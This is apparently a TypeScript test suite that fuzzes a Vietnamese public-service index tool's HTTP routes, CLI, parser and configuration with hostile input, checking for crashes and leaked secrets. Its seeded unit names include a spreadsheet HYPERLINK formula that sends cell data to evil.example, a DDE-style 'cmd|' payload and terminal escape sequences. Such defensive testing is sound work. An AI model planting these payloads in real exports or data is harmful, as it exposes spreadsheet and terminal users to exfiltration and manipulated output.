/**
 * `npm run test:hostile`: hostile and malformed input against every surface, generated from
 * the surfaces' own definitions so that a new route, command, flag, setting or portal field
 * is tried by default:
 * - HTTP: every route the server registers (listRoutes), each query parameter its schema
 *   declares (a route without a schema gets every parameter any route knows) and each path
 *   parameter, plus wrong methods, malformed tokens and cookies, and stored hostile names in
 *   every CSV export;
 * - CLI: every command commander knows (src/cli/commands), each flag that takes a value and
 *   each argument, an extra argument, and the read commands over stored hostile names;
 * - parse + ingest: every call, each string and number field of the province's row and of a
 *   unit's row (and its first metric), then the assembled day stored into PostgreSQL (rolled
 *   back), so no value reaches the database unvalidated;
 * - configuration: every variable of src/config.ts.
 *
 * A case passes when it is answered 2xx/4xx (exit 0/2, or a documented 3/4), never 5xx or a
 * crash, and nothing leaks: no planted password or token, stack trace, SQL error or server
 * path in any answer, output or log line; no raw control character on a terminal; no CSV cell
 * a spreadsheet would run. The table is printed at the end; the last two columns must be 0.
 */
import { mkdir, mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { FastifyInstance } from 'fastify';
import { Redis } from 'ioredis';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildProgram } from '../../src/cli/index.js';
import { CONFIG_VARIABLES, loadConfig } from '../../src/config.js';
import { ConfigError, InputError, PortalFormatError } from '../../src/errors.js';
import { buildHttpServer, listRoutes } from '../../src/http/server.js';
import { createLogger } from '../../src/logger.js';
import { assembleProvinceDay } from '../../src/source/assemble.js';
import { parseCapture } from '../../src/source/parse-capture.js';
import { isUuid, RATIO_LIMIT, SCORE_LIMIT } from '../../src/source/parse-checks.js';
import { CALLS, type CallName } from '../../src/source/requests.js';
import type { ParsedCapture } from '../../src/source/types.js';
import { upsertProvinceDay } from '../../src/store/snapshots.js';
import { textFault } from '../../src/text.js';
import { createTestDatabase, type TestDatabase } from '../helpers/db.js';
import { testEnv } from '../helpers/env.js';
import {
  DIEN_BIEN_ID,
  GIA_LAI_ID,
  PHU_THO_ID,
  RECORDINGS_DIR,
  readRecording,
} from '../helpers/recordings.js';
import { deletePrefix, TEST_REDIS_URL, uniquePrefix } from '../helpers/redis.js';
import { type ReadScenario, seedReadScenario } from '../helpers/seed.js';
import { AUTH_VALUES, type HostileValue, NUMBER_VALUES, TEXT_CLASSES, WRONG_TYPES } from './classes.js';
import { runInProcess } from './cli-runner.js';
import { formulaLeak, leakIn, type Outcome, Tally, terminalLeak } from './tally.js';

const TOKEN = 'HostileTok3n';
const REPO_ROOT = path.resolve(import.meta.dirname, '../..');
const tally = new Tally();
let db: TestDatabase;
let dbUrl: string;
let s: ReadScenario;
const prefix = uniquePrefix('hostile');

/** Names a spreadsheet or a terminal would obey, stored as if an old capture had them. */
const STORED = {
  health: '=HYPERLINK("http://evil.example/?"&A1,"Bấm")',
  finance: '\u001b[2J\u001b[31mSở Tài chính\u009b',
  construction: '@SUM(1+1)*cmd|',
  commune: '-2+3 Xã \u202eTấu',
};

beforeAll(async () => {
  db = await createTestDatabase();
  s = await seedReadScenario(db.pool);
  // A password PostgreSQL ignores (trust) but that must never be printed.
  const u = new URL(db.url);
  u.password = 'HostileDbPW';
  dbUrl = u.toString();
  const set = (id: string, name: string) =>
    db.pool.query('update units set name = $2 where id = $1', [id, name]);
  await set(s.health.id, STORED.health);
  await set(s.finance.id, STORED.finance);
  await set(s.construction.id, STORED.construction);
  await set(s.fallingCommune.id, STORED.commune);
  await db.pool.query(
    `update runs set error_class = 'PortalFormatError', error_message = $1 where id = (select min(id) from runs)`,
    ['\u001b[31mcode is "ERR\u001b[2J", not "OK"'],
  );
  await db.pool.query(
    `insert into circuit (host, state, opened_at, reason, support_id) values ('127.0.0.1:9', 'open', now(), $1, $2)`,
    ['the firewall said \u001b[2J\u001b]0;pwned\u0007', '42\u001b[31m'],
  );
}, 120_000);

afterAll(async () => {
  await deletePrefix(prefix);
  await db?.drop();
  // The table, for the person running the suite (and the report).
  process.stdout.write(`\nhostile input: outcomes by class and surface\n${tally.render()}\n\n`);
});

function describeFailures(surface: string): string {
  return tally
    .failuresOf(surface)
    .slice(0, 30)
    .map((f) => `${f.cls} | ${f.what} | ${f.detail}`)
    .join('\n');
}

// ---------------------------------------------------------------------------------------------
describe('HTTP: every route, parameter and method', () => {
  let app: FastifyInstance;
  let redis: Redis;
  const logLines: string[] = [];

  beforeAll(async () => {
    const config = loadConfig(
      testEnv({
        DATABASE_URL: dbUrl,
        HTTP_TOKEN: TOKEN,
        PUBLIC_URL: 'https://dvc-index.dienbien.gov.vn',
        LOG_LEVEL: 'info',
      }),
    );
    redis = new Redis(TEST_REDIS_URL, { maxRetriesPerRequest: 1 });
    app = buildHttpServer({
      config,
      log: createLogger(config, { write: (l: string) => void logLines.push(l) }),
      pool: db.pool,
      redis,
      queuePrefix: prefix,
    });
    await app.ready();
  });
  afterAll(async () => {
    await app?.close();
    redis?.disconnect();
  });

  async function request(
    cls: string,
    surface: string,
    what: string,
    req: { method?: string; url: string; headers?: Record<string, string> },
    expectRejected = false,
  ): Promise<void> {
    const logStart = logLines.length;
    let outcome: Outcome;
    let leak: string | null = null;
    let detail = '';
    try {
      const res = await app.inject({
        method: (req.method ?? 'GET') as 'GET',
        url: req.url,
        headers: req.headers ?? { authorization: `Bearer ${TOKEN}` },
      });
      outcome = res.statusCode >= 500 ? 'crash' : res.statusCode >= 400 ? 'rejected' : 'accepted';
      detail = `HTTP ${res.statusCode}: ${res.body.slice(0, 200)}`;
      const headers = JSON.stringify({ ...res.headers, 'set-cookie': undefined });
      leak = leakIn(res.body) ?? leakIn(headers);
      if (leak === null && /token=/i.test(String(res.headers.location ?? '')))
        leak = 'the token in a redirect';
      const type = String(res.headers['content-type'] ?? '');
      if (leak === null && type.startsWith('text/csv')) leak = formulaLeak(res.body);
      if (expectRejected && outcome === 'accepted') {
        outcome = 'crash';
        detail = `expected a 4xx, got ${detail}`;
      }
    } catch (e) {
      outcome = 'crash';
      detail = `inject threw: ${(e as Error).message}`;
    }
    leak ??= leakIn(logLines.slice(logStart).join(''));
    tally.record(cls, surface, what, outcome, leak, detail);
  }

  const encoded = (v: HostileValue) => v.raw ?? encodeURIComponent(v.text);

  it('answers every hostile parameter with 2xx or 4xx, nothing leaking', async () => {
    const routes = listRoutes(app).filter((r) => r.method === 'GET');
    expect(routes.length).toBeGreaterThanOrEqual(14);
    // Every API route declares its parameters, so that this suite knows what to try.
    for (const r of routes)
      if (r.url.startsWith('/api/')) expect(r.declared, `${r.url} declares no query schema`).toBe(true);
    const everyParam = [...new Set(routes.flatMap((r) => r.query))].sort();
    const surface = `http (${routes.length} routes)`;
    const fill = (url: string, params: Record<string, string> = {}) =>
      url.replace(/:([A-Za-z0-9_]+)/g, (_m, name: string) => params[name] ?? s.health.id);

    for (const route of routes) {
      const query = route.query.length > 0 ? route.query : everyParam;
      for (const cls of TEXT_CLASSES)
        for (const v of cls.values) {
          for (const q of query)
            await request(cls.name, surface, `GET ${route.url}?${q}=…`, {
              url: `${fill(route.url)}?${q}=${encoded(v)}`,
            });
          for (const p of route.params)
            await request(cls.name, surface, `GET ${route.url} :${p}=…`, {
              url: fill(route.url, { [p]: encoded(v) }),
            });
        }
      for (const q of query)
        await request('repeated parameter', surface, `GET ${route.url}?${q}&${q}`, {
          url: `${fill(route.url)}?${q}=a&${q}=b`,
        });
    }
    expect(describeFailures('http')).toBe('');
  }, 900_000);

  it('answers a wrong method with 405 on every known path', async () => {
    const all = listRoutes(app);
    const surface = `http (${new Set(all.map((r) => r.url)).size} paths)`;
    const urls = [...new Set(all.map((r) => r.url))];
    for (const url of urls) {
      const served = new Set(all.filter((r) => r.url === url).map((r) => r.method));
      for (const method of ['POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS'].filter((m) => !served.has(m)))
        await request(
          'wrong method',
          surface,
          `${method} ${url}`,
          {
            method,
            url: url.replace(/:([A-Za-z0-9_]+)/g, s.health.id),
          },
          true,
        );
    }
    expect(describeFailures('http')).toBe('');
  });

  it('answers malformed tokens and cookies with 401 on every guarded route', async () => {
    const routes = listRoutes(app).filter((r) => r.method === 'GET');
    const surface = `http (${routes.length} routes)`;
    for (const route of routes) {
      const url = route.url.replace(/:([A-Za-z0-9_]+)/g, s.health.id);
      const open = url === '/healthz' || url === '/readyz';
      for (const a of AUTH_VALUES) {
        const headers: Record<string, string> = { accept: 'text/html' };
        if (a.cookie) headers.cookie = a.cookie;
        if (a.header) headers.authorization = a.header;
        await request(
          'malformed token / cookie',
          surface,
          `GET ${route.url} ${JSON.stringify(a).slice(0, 40)}`,
          { url: a.query ? `${url}?token=${a.query}` : url, headers },
          !open,
        );
      }
    }
    expect(describeFailures('http')).toBe('');
  });

  it('exports stored hostile names with every CSV cell neutralised', async () => {
    const routes = listRoutes(app).filter((r) => r.method === 'GET' && r.query.includes('format'));
    const csvRoutes = listRoutes(app).filter((r) => r.method === 'GET' && r.url.endsWith('.csv'));
    const surface = `http (${routes.length + csvRoutes.length} exports)`;
    for (const id of [s.health.id, s.finance.id, s.construction.id, s.fallingCommune.id]) {
      for (const r of csvRoutes)
        await request('stored hostile text', surface, `GET ${r.url}`, { url: r.url.replace(':id', id) });
      for (const r of routes)
        await request('stored hostile text', surface, `GET ${r.url}?format=csv`, {
          url: `${r.url.replace(':id', id)}?format=csv`,
        });
    }
    const page = await app.inject({
      method: 'GET',
      url: '/api/report/export.csv',
      headers: { authorization: `Bearer ${TOKEN}` },
    });
    expect(page.body).toContain(`"'${STORED.health.replace(/"/g, '""')}"`);
    expect(describeFailures('http')).toBe('');
  });
});

// ---------------------------------------------------------------------------------------------
describe('CLI: every command, flag and argument', () => {
  let sandbox: string;
  let cwd: string;
  let env: Record<string, string>;
  const RECORDING = path.join(
    RECORDINGS_DIR,
    'crawler766-national-2026-09/service-results/year-2026-national-20260927.json',
  );

  beforeAll(async () => {
    sandbox = await mkdtemp(path.join(tmpdir(), 'dvc-hostile-'));
    // Deep enough that ../../../../ stays inside the sandbox.
    cwd = path.join(sandbox, 'a', 'b', 'c', 'd', 'e');
    await mkdir(cwd, { recursive: true });
    env = testEnv({
      DATABASE_URL: dbUrl,
      QUEUE_PREFIX: prefix,
      PORTAL_BASE_URL: 'http://127.0.0.1:9',
      CHROMIUM_PATH: '/nonexistent/chromium',
      PROVINCES: 'H18',
      PERIODS: 'year',
      HTTP_PORT: '0',
      LOG_LEVEL: 'error',
      REDIS_REQUIRE_NOEVICTION: 'false',
    });
  });
  afterAll(async () => {
    if (sandbox) await rm(sandbox, { recursive: true, force: true });
  });

  /** A valid value for each required flag or argument, so the hostile one is what gets judged. */
  const EXAMPLES: Record<string, string> = {
    '--endpoint': 'national',
    '<file>': RECORDING,
    '--unit': 'H18.01',
    '--reason': 'allow-list updated by the portal team',
    '--date': '2026-05-29',
    '<unit>': 'H18.01',
    '<email>': 'vanphong@syt.dienbien.gov.vn',
  };
  /** Flags a command needs to do anything at all with the others (each named explicitly). */
  const BASELINE: Record<string, string[]> = {
    'replay-portal': ['--scenario', path.join(REPO_ROOT, 'scenarios/dien-bien-demo.json'), '--port', '0'],
    'smtp-catcher': ['--port', '0'],
  };

  async function runCase(cls: string, surface: string, argv: string[]): Promise<void> {
    const prev = process.cwd();
    process.chdir(cwd);
    let res: Awaited<ReturnType<typeof runInProcess>>;
    try {
      res = await runInProcess(argv, env);
    } finally {
      process.chdir(prev);
    }
    const what = `dvc-index ${argv.map((a) => JSON.stringify(a).slice(0, 30)).join(' ')}`;
    const format = argv[argv.indexOf('--format') + 1];
    const text = `${res.stdout}${res.stderr}`;
    let leak = leakIn(text);
    if (leak === null && format === 'csv') leak = formulaLeak(res.stdout) ?? terminalLeak(res.stderr);
    else if (leak === null && format !== 'json') leak = terminalLeak(text);
    else if (leak === null)
      leak = terminalLeak(res.stderr) ?? /[\u007f-\u009f\u202a-\u202e]/.exec(res.stdout)?.[0] ?? null;
    let outcome: Outcome;
    let detail = `exit ${res.code}: ${res.stderr.slice(0, 300)}`;
    if (res.escaped) {
      outcome = 'crash';
      detail = `escaped ${res.escaped.stack ?? res.escaped.message}`;
    } else if (res.hung) {
      outcome = 'crash';
      detail = 'did not stop';
    } else if (res.code === 2 || res.code === 4) outcome = 'rejected';
    else if (res.code === 0 || res.code === 3) outcome = 'accepted';
    else outcome = 'crash';
    tally.record(cls, surface, what, outcome, leak, detail);
  }

  it('answers every hostile flag value and argument with exit 0 or 2 (or a documented 3/4), nothing leaking', async () => {
    const program = await buildProgram(undefined, {
      onUsageError: (e) => {
        throw e;
      },
    });
    const leaves: { path: string[]; cmd: (typeof program.commands)[number] }[] = [];
    const walk = (c: typeof program, at: string[]) => {
      for (const sub of c.commands) {
        const p = [...at, sub.name()];
        if (sub.commands.length > 0) walk(sub, p);
        else leaves.push({ path: p, cmd: sub });
      }
    };
    walk(program, []);
    expect(leaves.length).toBeGreaterThanOrEqual(18);
    const surface = `cli (${leaves.length} commands)`;
    for (const { path: cmdPath, cmd } of leaves) {
      const valued = cmd.options.filter((o) => (o.required || o.optional) && o.long !== '--help');
      const args = cmd.registeredArguments;
      const required = [
        ...cmd.options.filter((o) => o.mandatory).map((o) => o.long!),
        ...args.filter((a) => a.required).map((a) => `<${a.name()}>`),
      ];
      for (const r of required)
        expect(EXAMPLES[r], `${cmdPath.join(' ')} needs an example for ${r}`).toBeDefined();
      const base = (replace: string | null): string[] => {
        const out: string[] = [];
        const given = BASELINE[cmdPath.join(' ')] ?? [];
        for (let i = 0; i < given.length; i += 2)
          if (given[i] !== replace) out.push(given[i]!, given[i + 1]!);
        for (const r of required)
          if (r.startsWith('--') && r !== replace && !out.includes(r)) out.push(r, EXAMPLES[r]!);
        return out;
      };
      const positional = (replace: string | null, value: string) =>
        args.map((a) => (`<${a.name()}>` === replace ? value : (EXAMPLES[`<${a.name()}>`] ?? 'x')));
      for (const cls of TEXT_CLASSES)
        for (const v of cls.values.slice(0, 2)) {
          for (const o of valued)
            await runCase(cls.name, surface, [
              ...cmdPath,
              ...base(o.long!),
              o.long!,
              v.text,
              ...positional(null, ''),
            ]);
          for (const a of args)
            await runCase(cls.name, surface, [
              ...cmdPath,
              ...base(null),
              ...positional(`<${a.name()}>`, v.text),
            ]);
        }
      await runCase('extra argument', surface, [
        ...cmdPath,
        ...base(null),
        ...positional(null, ''),
        'extra',
        '\u0000',
      ]);
    }
    expect(describeFailures('cli')).toBe('');
  }, 1_800_000);

  it('prints stored hostile names and portal texts escaped in tables and neutralised in CSV', async () => {
    const surface = 'cli (read commands)';
    for (const format of ['table', 'csv', 'json']) {
      await runCase('stored hostile text', surface, ['units', '--format', format]);
      await runCase('stored hostile text', surface, ['report', '--format', format]);
      for (const unit of ['H18.01', 'H18.03', 'H18.04'])
        await runCase('stored hostile text', surface, [
          'history',
          '--unit',
          unit,
          '--group',
          'TTTT',
          '--format',
          format,
        ]);
      await runCase('stored hostile text', surface, ['alerts', '--status', 'all', '--format', format]);
    }
    for (const format of ['table', 'json'])
      await runCase('stored hostile text', surface, ['runs', '--last', '500', '--format', format]);
    await runCase('stored hostile text', surface, ['circuit', 'status']);
    expect(describeFailures('cli')).toBe('');
  }, 600_000);
});

// ---------------------------------------------------------------------------------------------
describe('parse + ingest: every call, every field of a row', () => {
  const BODIES: Record<CallName, { rel: string; provinceId: string; provinceCode: string }> = {
    national: {
      rel: 'crawler766-national-2026-09/service-results/year-2026-national-20260927.json',
      provinceId: DIEN_BIEN_ID,
      provinceCode: 'H18',
    },
    'service-results': {
      rel: 'crawler766-provinces-2026-09/service-results/year-2026-root-H21.json',
      provinceId: GIA_LAI_ID,
      provinceCode: 'H21',
    },
    transparency: {
      rel: 'qd766-phutho-2026-09/transparency/year-all.json',
      provinceId: PHU_THO_ID,
      provinceCode: 'H44',
    },
    'dvc-progress-tree': {
      rel: 'qd766-phutho-2026-09/dvc-progress-tree/year-all.json',
      provinceId: PHU_THO_ID,
      provinceCode: 'H44',
    },
    'provide-online-tree': {
      rel: 'qd766-phutho-2026-09/provide-online-tree/year-all.json',
      provinceId: PHU_THO_ID,
      provinceCode: 'H44',
    },
    'formality-online-payment-tree': {
      rel: 'qd766-phutho-2026-09/formality-online-payment-tree/year-all.json',
      provinceId: PHU_THO_ID,
      provinceCode: 'H44',
    },
    'dossier-digitized': {
      rel: 'qd766-phutho-2026-09/dossier-digitized/year-all.json',
      provinceId: PHU_THO_ID,
      provinceCode: 'H44',
    },
    'handling-satisfaction': {
      rel: 'qd766-phutho-2026-09/handling-satisfaction/year-all.json',
      provinceId: PHU_THO_ID,
      provinceCode: 'H44',
    },
  };

  type Json = Record<string, unknown>;
  /** A real body cut to its first rows (the national list keeps Điện Biên in it). */
  function baseBody(call: CallName): Json {
    const j = JSON.parse(readRecording(BODIES[call].rel).toString('utf8')) as { data: Json };
    const list = (j.data.evaluation ?? j.data.children) as Json[];
    const keep =
      call === 'national'
        ? [list.find((r) => r.departmentId === DIEN_BIEN_ID)!, ...list.slice(0, 3)]
        : list.slice(0, 3);
    if (j.data.evaluation) j.data.evaluation = keep;
    else j.data.children = keep;
    return j as unknown as Json;
  }

  /** The JSON paths of every string and number leaf of the province's row and a unit's row. */
  function leaves(body: Json): { path: (string | number)[]; kind: 'string' | 'number' }[] {
    const data = body.data as Json;
    const rows: (string | number)[][] = [];
    if (data.overview) rows.push(['data', 'overview']);
    if (data.parent) rows.push(['data', 'parent']);
    rows.push(data.evaluation ? ['data', 'evaluation', 1] : ['data', 'children', 1]);
    const out: { path: (string | number)[]; kind: 'string' | 'number' }[] = [];
    const walk = (v: unknown, at: (string | number)[], depth: number) => {
      if (typeof v === 'string') out.push({ path: at, kind: 'string' });
      else if (typeof v === 'number') out.push({ path: at, kind: 'number' });
      else if (depth < 3 && Array.isArray(v) && v.length > 0) walk(v[0], [...at, 0], depth + 1);
      else if (depth < 3 && v && typeof v === 'object')
        for (const [k, x] of Object.entries(v))
          if (!['radar', 'donut', 'charts', 'chart'].includes(k)) walk(x, [...at, k], depth + 1);
    };
    for (const r of rows) {
      let v: unknown = body;
      for (const k of r) v = (v as Json)[k as string];
      walk(v, r, 0);
    }
    return out;
  }

  function setAt(body: Json, at: (string | number)[], value: unknown): Json {
    const copy = structuredClone(body);
    let v: unknown = copy;
    for (const k of at.slice(0, -1)) v = (v as Json)[k as string];
    (v as Json)[at.at(-1) as string] = value;
    return copy;
  }

  /** An observation we would store that is not storable or not printable: the check let it through. */
  function unusable(p: ParsedCapture): string | null {
    for (const u of p.units) {
      if (!isUuid(u.id)) return `unit id ${JSON.stringify(u.id)}`;
      for (const t of [u.name, u.code])
        if (t !== null && textFault(t) !== null) return `text ${JSON.stringify(t)}`;
    }
    for (const x of p.scores)
      for (const n of [x.score, x.maxScore])
        if (n !== null && !(n >= 0 && n <= SCORE_LIMIT)) return `score ${n}`;
    for (const m of p.metrics) {
      for (const t of [m.code, m.name, m.qualityStatus, m.qualityMessage])
        if (t !== null && textFault(t) !== null) return `metric text ${JSON.stringify(t)}`;
      for (const n of [m.numerator, m.denominator]) if (n !== null && !(n >= 0)) return `count ${n}`;
      if (m.ratio !== null && !(m.ratio >= 0 && m.ratio <= RATIO_LIMIT)) return `ratio ${m.ratio}`;
      for (const n of [m.score, m.maxScore])
        if (n !== null && !(n >= 0 && n <= SCORE_LIMIT)) return `metric score ${n}`;
    }
    return null;
  }

  async function storeRolledBack(call: CallName, body: string): Promise<string | null> {
    const b = BODIES[call];
    const day = assembleProvinceDay({
      provinceId: b.provinceId,
      provinceCode: b.provinceCode,
      reportDate: '2026-09-26',
      period: { type: 'year', year: 2026, number: 0 },
      captures: [{ call, page: 1, body }],
    });
    const client = await db.pool.connect();
    try {
      await client.query('begin');
      await upsertProvinceDay(client, null, day);
      return null;
    } catch (e) {
      return `PostgreSQL refused the day: ${(e as Error).message}`;
    } finally {
      await client.query('rollback');
      client.release();
    }
  }

  async function tryCase(
    cls: string,
    surface: string,
    call: CallName,
    what: string,
    body: Json,
  ): Promise<void> {
    const text = JSON.stringify(body);
    let outcome: Outcome;
    let leak: string | null = null;
    let detail = '';
    try {
      const parsed = parseCapture(call, text, { provinceId: BODIES[call].provinceId });
      const bad = unusable(parsed);
      if (bad !== null) leak = `an unusable value passed unflagged: ${bad}`;
      outcome = parsed.problems.length > 0 ? 'rejected' : 'accepted';
      leak ??=
        leakIn(parsed.problems.map((p) => p.message).join('\n')) ??
        terminalLeak(parsed.problems.map((p) => p.message).join(''));
      const stored = await storeRolledBack(call, text);
      if (stored !== null) {
        outcome = 'crash';
        detail = stored;
      }
    } catch (e) {
      if (e instanceof PortalFormatError || e instanceof InputError) {
        outcome = 'rejected';
        leak = terminalLeak(e.message);
      } else {
        outcome = 'crash';
        detail = `${(e as Error).stack}`;
      }
    }
    tally.record(cls, surface, `${call} ${what}`, outcome, leak, detail);
  }

  it('nulls or refuses every hostile value, and PostgreSQL accepts every day that results', async () => {
    const surface = `parse+ingest (${CALLS.length} calls)`;
    for (const call of CALLS) {
      const body = baseBody(call);
      for (const leaf of leaves(body)) {
        const where = leaf.path.join('.');
        if (leaf.kind === 'string')
          for (const cls of TEXT_CLASSES)
            await tryCase(cls.name, surface, call, where, setAt(body, leaf.path, cls.values[0]!.text));
        else
          for (const n of NUMBER_VALUES)
            await tryCase('huge / odd numbers', surface, call, where, setAt(body, leaf.path, n));
        for (const w of WRONG_TYPES)
          await tryCase('wrong JSON type', surface, call, where, setAt(body, leaf.path, w));
      }
      // the same unit twice, once with other figures
      const data = body.data as Json;
      const list = (data.evaluation ?? data.children) as Json[];
      const twin = structuredClone(list[1]!);
      for (const k of ['totalScore', 'score'])
        if (typeof twin[k] === 'number') twin[k] = (twin[k] as number) / 2;
      if (typeof twin.departmentName === 'string') twin.departmentName = `${twin.departmentName} (bis)`;
      await tryCase(
        'unit listed twice',
        surface,
        call,
        'a row repeated with other figures',
        setAt(body, ['data', data.evaluation ? 'evaluation' : 'children'], [...list, twin]),
      );
    }
    expect(describeFailures('parse')).toBe('');
  }, 900_000);
});

// ---------------------------------------------------------------------------------------------
describe('configuration: every variable', () => {
  it('refuses every hostile setting by name, never echoing a secret or a control character', () => {
    const surface = `config (${CONFIG_VARIABLES.length} variables)`;
    const secretUrls = [
      'postgres://dvc:HostileDbPW@db:5432/x',
      'mysql://u:HostileDbPW@',
      'x://u:Hostile DbPW@h',
      'smtp://u:HostileDbPW@',
    ];
    for (const variable of CONFIG_VARIABLES) {
      const cases: [string, string][] = [
        ...TEXT_CLASSES.flatMap((c) => c.values.slice(0, 2).map((v) => [c.name, v.text] as [string, string])),
        ...secretUrls.map((u) => ['secret in a value', u] as [string, string]),
      ];
      for (const [cls, value] of cases) {
        let outcome: Outcome;
        let leak: string | null = null;
        let detail = '';
        try {
          loadConfig({ [variable]: value });
          outcome = 'accepted';
        } catch (e) {
          if (e instanceof ConfigError) {
            outcome = 'rejected';
            const m = e.message;
            leak =
              leakIn(m) ??
              (/Hostile ?DbPW|DbPW/.test(m) ? 'a password' : null) ??
              terminalLeak(m.replace(/\n/g, ' '));
            if (
              leak === null &&
              variable === 'HTTP_TOKEN' &&
              m.includes(value.slice(0, 8)) &&
              value.length > 3
            )
              leak = 'the token';
          } else {
            outcome = 'crash';
            detail = String(e);
          }
        }
        tally.record(
          cls,
          surface,
          `${variable}=${JSON.stringify(value).slice(0, 30)}`,
          outcome,
          leak,
          detail,
        );
      }
    }
    expect(describeFailures('config')).toBe('');
  });
});

describe('the table', () => {
  it('has cases on every surface and 0 in the last two columns', () => {
    const t = tally.total();
    expect(t.cases).toBeGreaterThan(1000);
    expect(
      tally.failures.map((f) => `${f.surface} | ${f.cls} | ${f.what} | ${f.detail}`).slice(0, 20),
    ).toEqual([]);
    expect(t.crashed).toBe(0);
    expect(t.leaked).toBe(0);
  });
});
